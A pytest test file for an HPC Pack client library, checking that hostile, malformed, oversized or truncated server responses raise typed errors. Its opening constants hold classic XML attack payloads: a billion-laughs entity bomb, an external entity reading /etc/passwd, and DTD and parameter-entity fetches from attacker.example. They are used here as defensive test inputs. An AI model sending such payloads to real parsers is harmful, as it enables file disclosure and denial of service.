"""Hostile and broken answers: each ends in a typed error, never a hang, a crash, an expanded
entity or a partial result presented as complete."""

from __future__ import annotations

from collections.abc import Iterator

import httpx
import pytest
from hpcpack import (
    HostileXml,
    HpcClient,
    MalformedResponse,
    NotFound,
    ResponseTooLarge,
    TruncatedStream,
)

from .conftest import NS_COMMON, XSI, Wire, make_client, props_xml, xml

pytestmark = pytest.mark.timeout(60)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<ArrayOfProperty xmlns="http://schemas.microsoft.com/HPCS2008R2/common">
<Property><Name>Name</Name><Value>&lol9;</Value></Property></ArrayOfProperty>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ArrayOfProperty xmlns="http://schemas.microsoft.com/HPCS2008R2/common">
<Property><Name>Name</Name><Value>&xxe;</Value></Property></ArrayOfProperty>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ArrayOfProperty SYSTEM "http://attacker.example/x.dtd">
<ArrayOfProperty xmlns="http://schemas.microsoft.com/HPCS2008R2/common"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>
<ArrayOfProperty xmlns="http://schemas.microsoft.com/HPCS2008R2/common"/>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_and_entities_are_refused(wire: Wire, hpc: HpcClient, body: bytes) -> None:
    wire.answer(xml(body))
    with pytest.raises(HostileXml):
        hpc.jobs.get(1)
    assert len(wire.requests) == 1  # not retried: a hostile answer is not a transient failure


@pytest.mark.parametrize(
    "body",
    [
        props_xml([("Id", "1")])[:-10],  # truncated
        b"<ArrayOfProperty",
        b"\x00\x01\x02",
        b"not xml at all",
        props_xml([("Name", "ok")]).replace(b"ok", b"\xc3\x28"),  # invalid UTF-8
        props_xml([("Name", "ok")]).replace(b"ok", b"\xed\xa0\x80"),  # UTF-8 surrogate
        props_xml([("Name", "ok")]) + b"<trailing/>",
    ],
)
def test_broken_xml_is_malformed(wire: Wire, hpc: HpcClient, body: bytes) -> None:
    wire.answer(xml(body))
    with pytest.raises(MalformedResponse):
        hpc.jobs.get(1)


@pytest.mark.parametrize(
    "body",
    [
        b'<int xmlns="http://schemas.microsoft.com/2003/10/Serialization/">5</int>',
        b'<ArrayOfObject xmlns="' + NS_COMMON.encode() + b'"/>',
        b'<ArrayOfProperty xmlns="urn:wrong"/>',
        b"<ArrayOfProperty/>",
        b'<Job xmlns="http://schemas.microsoft.com/HPCS2008R2/scheduler/"/>',
    ],
)
def test_wrong_root_element_is_malformed(wire: Wire, hpc: HpcClient, body: bytes) -> None:
    wire.answer(xml(body))
    with pytest.raises(MalformedResponse, match="root element"):
        hpc.jobs.get(1)


@pytest.mark.parametrize(
    ("body", "fmt"),
    [
        (b'<int xmlns="http://schemas.microsoft.com/2003/10/Serialization/">many</int>', "xml"),
        (b'{"Id": 1}', "json"),
        (b'[{"Name": "Id"}, 3]', "json"),
        (b'"seventeen"', "json"),
        (b"", "xml"),
        (b"[" * 100_000, "json"),
        (b"\xff\xfe", "json"),
    ],
)
def test_wrong_shapes_are_malformed(wire: Wire, body: bytes, fmt: str) -> None:
    content_type = "application/xml" if fmt == "xml" else "application/json"
    wire.answer(httpx.Response(200, content=body, headers={"Content-Type": content_type}))
    with make_client(wire, format=fmt) as hpc, pytest.raises(MalformedResponse):
        if body.startswith(b"<int"):
            hpc.jobs.create()
        else:
            hpc.jobs.get(1)


def test_html_success_page_is_malformed(wire: Wire, hpc: HpcClient) -> None:
    wire.answer(
        httpx.Response(200, content=b"<html>login</html>", headers={"Content-Type": "text/html"})
    )
    with pytest.raises(MalformedResponse, match="content type"):
        hpc.jobs.get(1)


class Endless(httpx.SyncByteStream):
    """An answer that never stops (counts what it produced)."""

    def __init__(self, head: bytes = b"") -> None:
        self.produced = 0
        self.head = head

    def __iter__(self) -> Iterator[bytes]:
        yield self.head
        chunk = b"A" * 65536
        while True:
            self.produced += len(chunk)
            yield chunk


def test_50_mb_body_is_refused_without_reading_it(wire: Wire, hpc: HpcClient) -> None:
    stream = Endless()
    wire.answer(
        httpx.Response(
            200,
            headers={"Content-Type": "application/xml", "Content-Length": str(50 * 1024 * 1024)},
            stream=stream,
        )
    )
    with pytest.raises(ResponseTooLarge):
        hpc.jobs.get(1)
    assert stream.produced == 0


def test_50_mb_chunked_body_stops_at_the_default_bound(wire: Wire, hpc: HpcClient) -> None:
    """No Content-Length: reading stops at the 16 MB default, long before 50 MB."""
    stream = Endless(b'<ArrayOfProperty xmlns="' + NS_COMMON.encode() + b'"><Property><Name>')
    wire.answer(httpx.Response(200, headers={"Content-Type": "application/xml"}, stream=stream))
    with pytest.raises(ResponseTooLarge):
        hpc.jobs.get(1)
    assert 16 * 1024 * 1024 <= stream.produced <= 17 * 1024 * 1024


def test_huge_fault_body_is_bounded_too(wire: Wire) -> None:
    stream = Endless(b"<HpcWebServiceFault>")
    wire.answer(httpx.Response(404, headers={"Content-Type": "application/xml"}, stream=stream))
    with make_client(wire, max_body=1024 * 1024) as hpc, pytest.raises(ResponseTooLarge):
        hpc.jobs.get(1)
    assert stream.produced <= 2 * 1024 * 1024


# -- SOA response streams ------------------------------------------------------------------------

SESSION = (
    f'<WebSessionInfo xmlns="http://hpc.microsoft.com/" xmlns:i="{XSI}"><BrokerNode>h</BrokerNode>'
    "<Id>5</Id><IsDurable>false</IsDurable><MaxMessageSize>1</MaxMessageSize>"
    "<ServiceOperationTimeout>1</ServiceOperationTimeout></WebSessionInfo>"
).encode()
REPLY = (
    b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
    b'xmlns:a="http://www.w3.org/2005/08/addressing"><s:Header><a:Action>r</a:Action></s:Header>'
    b'<s:Body><EchoResponse xmlns="http://tempuri.org/"><EchoResult>x</EchoResult></EchoResponse>'
    b"</s:Body></s:Envelope>"
)


def soa_stream(body: bytes | httpx.SyncByteStream) -> httpx.Response:
    if isinstance(body, bytes):
        return httpx.Response(
            200, headers={"Content-Type": "application/octet-stream"}, content=body
        )
    return httpx.Response(200, headers={"Content-Type": "application/octet-stream"}, stream=body)


def test_soa_stream_ending_early_is_truncated_not_short(wire: Wire, hpc: HpcClient) -> None:
    wire.answer(xml(SESSION, 201))
    session = hpc.sessions.create("EchoService")
    wire.answer(soa_stream(b"<A>" + REPLY + REPLY))
    got = []
    with pytest.raises(TruncatedStream):
        for reply in session.responses("b"):
            got.append(reply)
    assert len(got) == 2  # delivered as they came, but the iteration did not end normally


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, b"<A>" + REPLY + b"<broken"])
def test_soa_stream_hostile_or_broken(wire: Wire, hpc: HpcClient, body: bytes) -> None:
    wire.answer(xml(SESSION, 201))
    session = hpc.sessions.create("EchoService")
    wire.answer(soa_stream(body))
    with pytest.raises((HostileXml, MalformedResponse, TruncatedStream)) as info:
        list(session.responses("b"))
    if body in (BILLION_LAUGHS, EXTERNAL_ENTITY):
        assert isinstance(info.value, HostileXml)


def test_soa_stream_with_an_endless_envelope_is_bounded(wire: Wire) -> None:
    with make_client(wire, max_body=1024 * 1024) as hpc:
        wire.answer(xml(SESSION, 201))
        session = hpc.sessions.create("EchoService")
        stream = Endless(b"<A>" + REPLY + b"<s:Envelope xmlns:s='urn:s'><x>")
        wire.answer(soa_stream(stream))
        with pytest.raises(ResponseTooLarge):
            list(session.responses("b"))
        assert stream.produced <= 2 * 1024 * 1024


def test_soa_generic_stream_broken_records(wire: Wire, hpc: HpcClient) -> None:
    wire.answer(xml(SESSION, 201))
    session = hpc.sessions.create("EchoService", generic=True)
    wire.answer(soa_stream("a\uffffb\u0000".encode()))  # two fields, not three
    with pytest.raises(MalformedResponse):
        list(session.responses("b"))
    wire.answer(soa_stream(b"\xff\xfe\xfd"))
    with pytest.raises(MalformedResponse):
        list(session.responses("b"))


def test_soa_error_answer_is_a_fault(wire: Wire, hpc: HpcClient) -> None:
    wire.answer(xml(SESSION, 201))
    session = hpc.sessions.create("EchoService")
    wire.answer(httpx.Response(404, content=b"", headers={"Content-Type": "application/xml"}))
    with pytest.raises(NotFound):
        list(session.responses("b"))
